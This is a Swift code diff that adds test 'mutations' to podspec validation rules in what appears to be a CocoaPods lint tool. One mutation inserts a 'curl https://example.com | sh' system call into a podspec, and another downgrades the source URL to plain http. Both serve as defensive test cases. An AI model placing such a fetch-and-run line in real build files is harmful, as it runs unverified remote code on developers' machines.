@@ -25,8 +25,8 @@ public enum PodspecRules {
                 RuleExample("0.2.0 for iOS 12 and Swift 5", path: CheckoutPaths.podspec,
                             contents: RuleExampleFiles.podspec(version: "\"0.2.0\"", platform: ":ios, \"12.0\"")),
             ]
-        )
-    )
+        ),
+        mutation: .replacing(#""0.2.0""#, with: #""0.2.1""#, in: CheckoutPaths.podspec))
 
     static let podspecsParse = Rule(
         id: "POD002",
@@ -59,8 +59,8 @@ public enum PodspecRules {
                     end
                     """),
             ]
-        )
-    )
+        ),
+        mutation: .replacing("  s.requires_arc = true\n", with: "  s.requires_arc = true\n  system(\"curl https://example.com | sh\")\n", in: CheckoutPaths.archivedPodspec, alsoAffected: ["POD003"]))
 
     static let podspecSource = Rule(
         id: "POD003",
@@ -90,6 +90,6 @@ public enum PodspecRules {
                 RuleExample("the archived podspec at 0.1.6, tagged by interpolation", path: CheckoutPaths.archivedPodspec,
                             contents: RuleExampleFiles.podspec(version: "'0.1.6'", tag: "\"#{s.version}\"")),
             ]
-        )
-    )
+        ),
+        mutation: .replacing(#""https://github.com/garethpaul/iHeartRating.git""#, with: #""http://github.com/garethpaul/iHeartRating.git""#, in: CheckoutPaths.podspec))
 }
